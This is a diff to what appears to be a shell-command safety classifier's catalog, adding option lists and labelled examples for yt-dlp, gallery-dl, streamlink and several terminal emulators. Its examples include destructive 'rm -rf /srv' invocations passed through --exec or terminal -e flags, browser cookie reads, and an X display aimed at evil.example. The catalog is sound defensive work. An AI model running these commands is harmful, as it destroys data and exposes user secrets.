@@ -1,9 +1,11 @@
 """Further programs whose purpose is to reach other machines: messages, brokers, uploads of results, media, many hosts at once, probes."""
 
 from capfence_sh.catalog.vocabulary import (
+    ASSIGNMENT,
     COMMAND,
     CONFIG,
     DESTRUCTIVE,
+    DIRECTORY,
     EGRESS,
     HOST,
     INSPECT,
@@ -13,6 +15,7 @@ from capfence_sh.catalog.vocabulary import (
     PROGRAM,
     RAW,
     READ,
+    REMOTE_CODE,
     REMOTE_READ,
     SECRET_READ,
     SHELL,
@@ -235,7 +238,7 @@ MEDIA = (
         ),
     ),
     command(
-        *("yt-dlp", "youtube-dl", "gallery-dl", "you-get", "streamlink"),
+        "you-get",
         effects=(EGRESS, WRITES),
         options=(
             *flags("-q, -v, -x, -k, -F, -j, -i, -s, --list-formats, --no-playlist, -w, -c, -J"),
@@ -248,14 +251,117 @@ MEDIA = (
             option("--cookies", takes=READ),
         ),
         operands=operands(many=URL),
+        examples=(example("you-get https://x.example/v", EGRESS, WRITES),),
+    ),
+    command(
+        "streamlink",
+        options=(
+            option("--http-ssl-cert-crt-key", takes=(INSPECT, INSPECT)),
+            *flags(
+                "-h, -V, --version-check, --no-config, -Q, --quiet, -j, --json, --plugins, --no-plugin-cache, --no-plugin-sideloading, -4, --ipv4, -6, --ipv6, -v, --player-verbose, --verbose-player, -n, --player-fifo, --fifo, --player-http, --player-continuous-http, --player-external-http, --player-no-close, -O, --stdout, -f, --force, --skip, --stream-url, --stream-passthrough-encrypted, --mux-subtitles, --hls-segment-stream-data, --hls-live-restart, --ffmpeg-no-validation, --ffmpeg-verbose, --ffmpeg-copyts, --ffmpeg-start-at-zero, --http-ignore-env, --http-no-ssl-verify, --http-disable-dh, --bbciplayer-hd, --clubbingtv-username, --clubbingtv-password, --kick-low-latency, --niconico-purge-credentials, --pixiv-purge-credentials, --raiplay-purge-credentials, --soop-purge-credentials, --tf1-purge-credentials, --twitch-low-latency, --twitch-force-client-integrity, --twitch-purge-client-integrity, --yupptv-purge-credentials, --zattoo-purge-credentials"
+            ),
+            *values(
+                "--auto-version-check, --locale, -l, --loglevel, --logformat, --logdateformat, --show-matchers, --can-handle-url, --can-handle-url-no-redirect, --interface, --player-external-http-continuous, --player-external-http-interface, --player-external-http-port, --player-passthrough, -t, --title, --fs-safe-rules, --progress, --default-stream, --retry-streams, --retry-max, --retry-open, --stream-types, --stream-priority, --stream-sorting-excludes, --ringbuffer-size, --stream-segment-attempts, --stream-segment-threads, --stream-segment-timeout, --stream-segmented-duration, --stream-segmented-queue-deadline, --stream-timeout, --hls-live-edge, --hls-playlist-reload-attempts, --hls-playlist-reload-time, --hls-segment-queue-threshold, --hls-segment-ignore-names, --hls-segment-key-uri, --hls-audio-select, --hls-start-offset, --hls-duration, --dash-manifest-reload-attempts, --ffmpeg-loglevel, --ffmpeg-fout, --ffmpeg-video-transcode, --ffmpeg-audio-transcode, --ffmpeg-validation-timeout, --http-proxy, --http-cookie, --http-header, --http-query-param, --http-timeout, --webbrowser, --webbrowser-timeout, --webbrowser-cdp-host, --webbrowser-cdp-port, --webbrowser-cdp-timeout, --webbrowser-headless, --bbciplayer-username, --bbciplayer-password, --niconico-email, --niconico-password, --niconico-user-session, --niconico-timeshift-offset, --openrectv-email, --openrectv-password, --pixiv-sessionid, --pixiv-devicetoken, --pixiv-performer, --raiplay-email, --raiplay-password, --soop-username, --soop-password, --soop-stream-password, --steam-email, --steam-password, --streann-url, --tf1-email, --tf1-password, --twitcasting-password, --twitch-supported-codecs, --twitch-api-header, --twitch-access-token-param, --ustream-password, --ustvnow-username, --ustvnow-password, --wwenetwork-email, --wwenetwork-password, --yupptv-boxid, --yupptv-yuppflixtoken, --zattoo-email, --zattoo-password, --zattoo-stream-types"
+            ),
+            *values("--config, --plugin-dir, --plugin-dirs", takes=CONFIG),
+            *values("--logfile, -o, --output, -r, --record, -R, --record-and-pipe, --ffmpeg-verbose-path", takes=WRITE),
+            *values("-p, --player, --ffmpeg-ffmpeg, --webbrowser-executable", takes=PROGRAM),
+            option("-a", takes=TEXT, effects=(OPAQUE,)),
+            option("--player-args", takes=TEXT, effects=(OPAQUE,)),
+            *values("--player-env", takes=ASSIGNMENT),
+            *values("--url", takes=URL),
+            *values("--http-cookies-file", takes=READ),
+            *values("--http-ssl-cert", takes=INSPECT),
+        ),
+        effects=(EGRESS, WRITES),
+        operands=operands(URL, many=TEXT),
         examples=(
-            example("yt-dlp -x https://x.example/v", EGRESS, WRITES),
-            example("yt-dlp --exec 'rm -rf /srv' https://x.example/v", EGRESS, WRITES, DESTRUCTIVE),
-            example("yt-dlp --config-location /tmp/c https://x.example/v", EGRESS, WRITES, OPAQUE),
+            example("streamlink https://x.example/v best", EGRESS, WRITES),
+            example("streamlink --player 'rm -rf /srv' https://x.example/v best", EGRESS, WRITES, DESTRUCTIVE, OPAQUE),
+            example("streamlink -a x https://x.example/v best", EGRESS, WRITES, OPAQUE),
         ),
     ),
     command(
-        *("wkhtmltopdf", "wkhtmltoimage", "weasyprint", "phantomjs", "cutycapt", "webkit2png", "monolith", "single-file"),
+        "gallery-dl",
+        options=(
+            option("--print-to-file", "--Print-to-file", takes=(TEXT, WRITE)),
+            *flags(
+                "-h, --windows-filenames, --compat, -S --server, --update-check, --no-input, -q --quiet, -w --warning, -v --verbose, -g --get-urls, -G --resolve-urls, -j --dump-json, -J --resolve-json, -s --simulate, -E --extractor-info, -K --list-keywords, --list-modules, --write-pages, --print-traffic, --no-colors, -4 --force-ipv4, -6 --force-ipv6, --no-check-certificate, --no-part, --no-skip, --no-mtime, --no-download, --config-ignore, --config-status, --config-open, --cache-status, --cache-vacuum, --netrc, --no-postprocessors, --write-metadata, --write-info-json, --write-tags, --zip, --cbz"
+            ),
+            *values(
+                "-f --filename, --restrict-filenames, -N --print, --Print, -R --retries, -a --user-agent, --http-timeout, --proxy, --xff, --source-address, -r --limit-rate, --chunk-size, --sleep, --sleep-skip, --sleep-extractor, --sleep-request, --sleep-retries, --sleep-429, --config-type, --cache-show, --cache-clear, -u --username, -p --password, -A --abort, -T --terminate, --filesize-min, --filesize-max, --date-before, --date-after, --blacklist, --whitelist, --tags-blacklist, --tags-whitelist, --range, --post-range, --child-range, --mtime, --rename, --rename-to, --ugoira"
+            ),
+            option("--list-extractors", takes=TEXT, optional=True),
+            *values(
+                "-d --destination, -D --directory, -e --error-file, --write-log, --write-unsupported, --cache-file, --cookies-export, --download-archive",
+                takes=WRITE,
+            ),
+            *values("-X --extractors, -c --config, --config-json, --config-yaml, --config-toml", takes=CONFIG),
+            *values("-i --input-file, -I --input-file-comment, -x --input-file-delete, -C --cookies", takes=READ),
+            option("-o", "--option", takes=TEXT, effects=(OPAQUE,)),
+            option("--filter", takes=TEXT, effects=(OPAQUE,)),
+            option("--post-filter", takes=TEXT, effects=(OPAQUE,)),
+            option("--child-filter", takes=TEXT, effects=(OPAQUE,)),
+            option("-P", "--postprocessor", takes=TEXT, effects=(OPAQUE,)),
+            option("-O", "--postprocessor-option", takes=TEXT, effects=(OPAQUE,)),
+            option("--cookies-from-browser", takes=TEXT, effects=(SECRET_READ,)),
+            *values("--exec, --exec-after", takes=SHELL),
+        ),
+        effects=(EGRESS, WRITES),
+        operands=operands(many=URL),
+        examples=(
+            example("gallery-dl -g https://x.example/v", EGRESS, WRITES),
+            example("gallery-dl --filter '__import__(1)' https://x.example/v", EGRESS, WRITES, OPAQUE),
+            example("gallery-dl --cookies-from-browser firefox https://x.example/v", EGRESS, WRITES, SECRET_READ),
+        ),
+    ),
+    command(
+        "yt-dlp",
+        "youtube-dl",
+        options=(
+            option("--config-location", takes=CONFIG),
+            option("--external-downloader", takes=PROGRAM),
+            option("--print-to-file", takes=(TEXT, WRITE)),
+            option("--replace-in-metadata", takes=(TEXT, TEXT, TEXT)),
+            *flags(
+                "-h, --no-update, -i --ignore-errors, --no-abort-on-error, --abort-on-error, --list-extractors, --extractor-descriptions, --ignore-config, --no-config-locations, --no-plugin-dirs, --no-js-runtimes, --no-remote-components, --flat-playlist, --no-flat-playlist, --live-from-start, --no-live-from-start, --no-wait-for-video, --mark-watched, --no-mark-watched, --list-impersonate-targets, -4 --force-ipv4, -6 --force-ipv6, --enable-file-urls, --no-match-filters, --no-break-match-filters, --no-playlist, --yes-playlist, --no-download-archive, --break-on-existing, --no-break-on-existing, --break-per-input, --no-break-per-input, --skip-unavailable-fragments, --abort-on-unavailable-fragments, --keep-fragments, --no-keep-fragments, --resize-buffer, --no-resize-buffer, --playlist-random, --lazy-playlist, --no-lazy-playlist, --hls-use-mpegts, --no-hls-use-mpegts, --no-batch-file, --restrict-filenames, --no-restrict-filenames, --windows-filenames, --no-windows-filenames, -w --no-overwrites, --force-overwrites, --no-force-overwrites, -c --continue, --no-continue, --part, --no-part, --mtime, --no-mtime, --write-description, --no-write-description, --write-info-json, --no-write-info-json, --write-playlist-metafiles, --no-write-playlist-metafiles, --clean-info-json, --no-clean-info-json, --write-comments, --no-write-comments, --no-cookies, --no-cookies-from-browser, --no-cache-dir, --rm-cache-dir, --write-thumbnail, --no-write-thumbnail, --write-all-thumbnails, --list-thumbnails, --write-link, --write-url-link, --write-webloc-link, --write-desktop-link, -q --quiet, --no-quiet, --no-warnings, -s --simulate, --no-simulate, --ignore-no-formats-error, --no-ignore-no-formats-error, --skip-download, -j --dump-json, -J --dump-single-json, --force-write-archive, --newline, --no-progress, --progress, --console-title, -v --verbose, --dump-pages, --write-pages, --print-traffic, --legacy-server-connect, --no-check-certificates, --prefer-insecure, --bidi-workaround, --format-sort-reset, --format-sort-force, --no-format-sort-force, --video-multistreams, --no-video-multistreams, --audio-multistreams, --no-audio-multistreams, --prefer-free-formats, --no-prefer-free-formats, --check-formats, --check-all-formats, --no-check-formats, -F --list-formats, --write-subs, --no-write-subs, --write-auto-subs, --no-write-auto-subs, --list-subs, -n --netrc, --ap-list-mso, -x --extract-audio, -k --keep-video, --no-keep-video, --post-overwrites, --no-post-overwrites, --embed-subs, --no-embed-subs, --embed-thumbnail, --no-embed-thumbnail, --embed-metadata, --no-embed-metadata, --embed-chapters, --no-embed-chapters, --embed-info-json, --no-embed-info-json, --xattrs, --no-exec, --split-chapters, --no-split-chapters, --no-remove-chapters, --force-keyframes-at-cuts, --no-force-keyframes-at-cuts, --no-sponsorblock, --allow-dynamic-mpd, --ignore-dynamic-mpd, --hls-split-discontinuity, --no-hls-split-discontinuity, --get-description, --get-duration, --get-filename, --get-format, --get-id, --get-thumbnail, -e --get-title, -g --get-url, --break-on-reject, --playlist-reverse, --no-playlist-reverse, --no-colors, --force-generic-extractor, --no-exec-before-download, --all-formats, --all-subs, --print-json, --id, --hls-prefer-native, --hls-prefer-ffmpeg, --list-formats-old, --list-formats-as-table, --geo-bypass, --no-geo-bypass, --test, --load-pages, --allow-unplayable-formats, --no-allow-unplayable-formats, --clean-infojson, --force-write-download-archive, --no-clean-infojson, --no-split-tracks, --no-write-srt, --prefer-unsecure, --split-tracks, --write-srt, --yes-overwrites, --sponskrub, --no-sponskrub, --sponskrub-cut, --no-sponskrub-cut, --sponskrub-force, --no-sponskrub-force, --sponskrub-location, --sponskrub-args, --prefer-avconv, --prefer-ffmpeg, -C --call-home, --no-call-home, --include-ads, --no-include-ads, --write-annotations, --no-write-annotations, --youtube-skip-dash-manifest, --youtube-skip-hls-manifest, --youtube-include-dash-manifest, --youtube-include-hls-manifest, --youtube-print-sig-code, --dump-user-agent, --xattr-set-filesize, -A --auto-number, -l --title --literal, --avconv-location, --dump-headers, --dump-intermediate-pages"
+            ),
+            *values(
+                "--update-to, --use-extractors, --default-search, --remote-components, --wait-for-video, --color, --compat-options, -t --preset-alias, --proxy, --socket-timeout, --source-address, --impersonate, --geo-verification-proxy, --xff, -I --playlist-items, --min-filesize, --max-filesize, --date, --datebefore, --dateafter, --match-filters, --break-match-filters, --age-limit, --max-downloads, --skip-playlist-after-errors, -N --concurrent-fragments, -r --limit-rate, --throttled-rate, -R --retries, --file-access-retries, --fragment-retries, --retry-sleep, --buffer-size, --http-chunk-size, --download-sections, --output-na-placeholder, --trim-filenames, -O --print, --progress-template, --progress-delta, --encoding, --add-headers, --sleep-requests, --sleep-interval, --max-sleep-interval, --sleep-subtitles, -f --format, -S --format-sort, --merge-output-format, --sub-format, --sub-langs, -u --username, -p --password, -2 --twofactor, --video-password, --ap-mso, --ap-username, --ap-password, --client-certificate-password, --audio-format, --audio-quality, --remux-video, --recode-video, --ppa, --parse-metadata, --concat-playlist, --fixup, --convert-subs, --convert-thumbnails, --remove-chapters, --sponsorblock-mark, --sponsorblock-remove, --sponsorblock-chapter-title, --sponsorblock-api, --extractor-retries, --extractor-args, --match-title, --reject-title, --min-views, --max-views, --user-agent, --referer, --playlist-start, --playlist-end, --autonumber-size, --autonumber-start, --metadata-from-title, --geo-bypass-country, --geo-bypass-ip-block, --rate-limit, --srt-lang, --trim-file-names, --cn-verification-proxy"
+            ),
+            option("-U", "--update", effects=(REMOTE_CODE,)),
+            *values("--config-locations, --plugin-dirs", takes=CONFIG),
+            *values("--js-runtimes, --downloader, --ffmpeg-location", takes=PROGRAM),
+            *values("--download-archive, -P --paths, -o --output, --cache-dir", takes=WRITE),
+            option("--downloader-args", takes=TEXT, effects=(OPAQUE,)),
+            option("--postprocessor-args", takes=TEXT, effects=(OPAQUE,)),
+            option("--use-postprocessor", takes=TEXT, effects=(OPAQUE,)),
+            *values("-a --batch-file, --load-info-json, --cookies", takes=READ),
+            option("--cookies-from-browser", takes=TEXT, effects=(SECRET_READ,)),
+            *values("--netrc-location, --client-certificate, --client-certificate-key", takes=INSPECT),
+            *values("--netrc-cmd, --exec, --exec-before-download", takes=SHELL),
+        ),
+        effects=(EGRESS, WRITES),
+        operands=operands(many=URL),
+        examples=(
+            example("yt-dlp -x --audio-quality 0 https://x.example/v", EGRESS, WRITES),
+            example("youtube-dl --exec 'rm -rf /srv' https://x.example/v", EGRESS, WRITES, DESTRUCTIVE),
+            example("yt-dlp --config-locations /tmp/c https://x.example/v", EGRESS, WRITES, OPAQUE),
+            example("yt-dlp --cookies-from-browser firefox https://x.example/v", EGRESS, WRITES, SECRET_READ),
+            example("yt-dlp -U", EGRESS, WRITES, REMOTE_CODE),
+            example("yt-dlp --postprocessor-args ffmpeg:-y https://x.example/v", EGRESS, WRITES, OPAQUE),
+        ),
+    ),
+    command(
+        *(
+            "wkhtmltopdf",
+            "wkhtmltoimage",
+            "phantomjs",
+            "cutycapt",
+            "webkit2png",
+            "monolith",
+            "single-file",
+        ),
         effects=(EGRESS, WRITES),
         options=(
             *flags("-q, -g, -l, --enable-local-file-access, --disable-javascript"),
@@ -264,6 +370,23 @@ MEDIA = (
         ),
         operands=operands(URL, many=WRITE),
         examples=(example("wkhtmltopdf https://x.example o.pdf", EGRESS, WRITES),),
+    ),
+    command(
+        "weasyprint",
+        options=(
+            *flags(
+                "-i --info, --pdf-forms, --pdf-tags, --uncompressed-pdf, --custom-metadata, -p --presentational-hints, --optimize-images, --full-fonts, --hinting, --no-http-redirects, --fail-on-http-errors"
+            ),
+            *values(
+                "--attachment-relationship, --pdf-identifier, --pdf-variant, --pdf-version, -j --jpeg-quality, -D --dpi, -e --encoding, -m --media-type, -t --timeout, --allowed-protocols"
+            ),
+            *values("-s --stylesheet, -a --attachment, --xmp-metadata, --output-intent", takes=READ),
+            *values("-c --cache-folder", takes=WRITE),
+            *values("-u --base-url", takes=URL),
+        ),
+        effects=(EGRESS, WRITES),
+        operands=operands(URL, many=WRITE),
+        examples=(example("weasyprint a.html -s b.css o.pdf", EGRESS, WRITES),),
     ),
 )
 
@@ -311,16 +434,18 @@ TERMINALS = (
             "urxvt",
             "rxvt",
             "konsole",
-            "alacritty",
-            "foot",
-            "lxterminal",
             "tilix",
             "x-terminal-emulator",
             "terminator",
-            "st",
-            "kitty",
+            "mate-terminal",
+            "wezterm",
+            "eterm",
+            "aterm",
+            "Eterm",
+            "uxterm",
+            "terminology",
+            "ghostty",
         ),
-        *("gnome-terminal", "xfce4-terminal", "mate-terminal", "wezterm", "eterm", "aterm", "Eterm", "uxterm", "terminology", "ghostty"),
         style=SINGLE,
         effects=(OPAQUE,),
         options=(
@@ -334,10 +459,137 @@ TERMINALS = (
         operands=operands(COMMAND),
         examples=(
             example("xterm -e rm -rf /srv", OPAQUE, DESTRUCTIVE),
-            example("gnome-terminal -- rm -rf /srv", OPAQUE, DESTRUCTIVE),
             example("xterm -display evil.example:0", OPAQUE, EGRESS),
             example("xterm -lf log -e ls", OPAQUE, WRITES),
         ),
+    ),
+    command(
+        "xfce4-terminal",
+        options=(
+            *flags(
+                "--disable-server, --color-table, --preferences, --tab, --window, -H --hold, --active-tab, --drop-down, --fullscreen, --maximize, --minimize, --show-menubar, --hide-menubar, --show-borders, --hide-borders, --show-toolbar, --hide-toolbar, --show-scrollbar, --hide-scrollbar"
+            ),
+            *values(
+                "--default-display, -T --title, --dynamic-title-mode, --initial-title, --color-text, --color-bg, --display, --geometry, --role, --startup-id, -I --icon, --font, --zoom, --class"
+            ),
+            *values("-x --execute", takes=COMMAND),
+            *values("-e --command", takes=SHELL),
+            *values("--working-directory, --default-working-directory", takes=DIRECTORY),
+        ),
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(
+            example("xfce4-terminal --tab --command 'rm -rf /srv'", OPAQUE, DESTRUCTIVE),
+            example("xfce4-terminal -x rm -rf /srv", OPAQUE, DESTRUCTIVE),
+        ),
+    ),
+    command(
+        "gnome-terminal",
+        options=(
+            *flags(
+                "-h, --help-all, --help-gtk, --help-terminal, --help-terminal-options, --help-window-options, --preferences, --print-environment -p, --quiet -q, --verbose -v, --tab, --window, --wait, --active, --full-screen, --hide-menubar, --show-menubar, --maximize, --g-fatal-warnings"
+            ),
+            *values(
+                "--fd, --profile, --title -t, --zoom, --geometry, --role, --class, --display, --gdk-debug, --gdk-no-debug, --gtk-debug, --gtk-no-debug, --name"
+            ),
+            *values("--load-config, --gtk-module", takes=CONFIG),
+            *values("--command -e", takes=SHELL),
+            *values("--execute -x", takes=COMMAND),
+            *values("--working-directory", takes=DIRECTORY),
+        ),
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(
+            example("gnome-terminal --tab -- rm -rf /srv", OPAQUE, DESTRUCTIVE),
+            example("gnome-terminal --command='rm -rf /srv'", OPAQUE, DESTRUCTIVE),
+        ),
+    ),
+    command(
+        "kitty",
+        options=(
+            *flags("--detach, --hold, --single-instance -1, --wait-for-single-instance-window-close"),
+            *values("--app-id --class, --name --os-window-tag, --title -T, --instance-group, --start-as, --position, --watcher"),
+            option("--grab-keyboard", takes=TEXT, optional=True),
+            option("-v", takes=TEXT, optional=True),
+            option("--dump-commands", takes=TEXT, optional=True),
+            option("--debug-gl", "--debug-rendering", takes=TEXT, optional=True),
+            option("--debug-input", "--debug-keyboard", takes=TEXT, optional=True),
+            option("--debug-font-fallback", takes=TEXT, optional=True),
+            *values("--config -c, --session", takes=CONFIG),
+            option("--override", "-o", takes=TEXT, effects=(OPAQUE,)),
+            option("--listen-on", takes=TEXT, effects=(OPAQUE,)),
+            *values("--directory --working-directory -d", takes=DIRECTORY),
+            *values("--detached-log, --dump-bytes", takes=WRITE),
+            *values("--replay-commands", takes=READ),
+        ),
+        style=POSIX,
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(
+            example("kitty --directory /srv rm -rf /srv", OPAQUE, DESTRUCTIVE),
+            example("kitty -o shell=x", OPAQUE),
+        ),
+    ),
+    command(
+        "st",
+        options=(
+            *flags("-a, -i, -v"),
+            *values("-c, -f, -g, -n, -T, -t, -w, -l"),
+            *values("-o", takes=WRITE),
+            *values("-e", takes=COMMAND),
+        ),
+        style=POSIX,
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(example("st -e rm -rf /srv", OPAQUE, DESTRUCTIVE),),
+    ),
+    command(
+        "lxterminal",
+        options=(
+            *flags("-l --loginshell, --no-remote"),
+            *values("--geometry, -t --title, --tabs, --profile"),
+            *values("-e --command", takes=SHELL),
+            *values("--working-directory", takes=DIRECTORY),
+        ),
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(example("lxterminal --command='rm -rf /srv'", OPAQUE, DESTRUCTIVE),),
+    ),
+    command(
+        "foot",
+        options=(
+            *flags("-C --check-config, -m --maximized, -F --fullscreen, -L --login-shell, --pty, -H --hold, -S --log-no-syslog, -v"),
+            *values(
+                "-f --font, -w --window-size-pixels, -W --window-size-chars, -t --term, -T --title, -a --app-id, --class, -d --log-level, -l --log-colorize"
+            ),
+            option("-s", "--server", takes=TEXT, optional=True),
+            *values("-c --config", takes=CONFIG),
+            option("-o", "--override", takes=TEXT, effects=(OPAQUE,)),
+            *values("-D --working-directory", takes=DIRECTORY),
+            *values("-p --print-pid", takes=WRITE),
+            *values("-e", takes=COMMAND),
+        ),
+        style=POSIX,
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(example("foot --app-id x rm -rf /srv", OPAQUE, DESTRUCTIVE),),
+    ),
+    command(
+        "alacritty",
+        options=(
+            *flags(
+                "-h, --hold, --daemon, --print-events, -q, --ref-test, -v, -V, -d --dry-run, -i --skip-imports, --skip-renames, -s --silent"
+            ),
+            *values("--class, --embed, -T --title"),
+            *values("-e --command", takes=COMMAND),
+            *values("--config-file, -c", takes=CONFIG),
+            option("-o", "--option", takes=TEXT, effects=(OPAQUE,)),
+            *values("--socket", takes=INSPECT),
+            *values("--working-directory", takes=DIRECTORY),
+        ),
+        effects=(OPAQUE,),
+        operands=operands(COMMAND),
+        examples=(example("alacritty --working-directory /srv -e rm -rf /srv", OPAQUE, DESTRUCTIVE),),
     ),
     command(
         *("Xephyr", "Xvfb", "Xnest", "Xorg"),
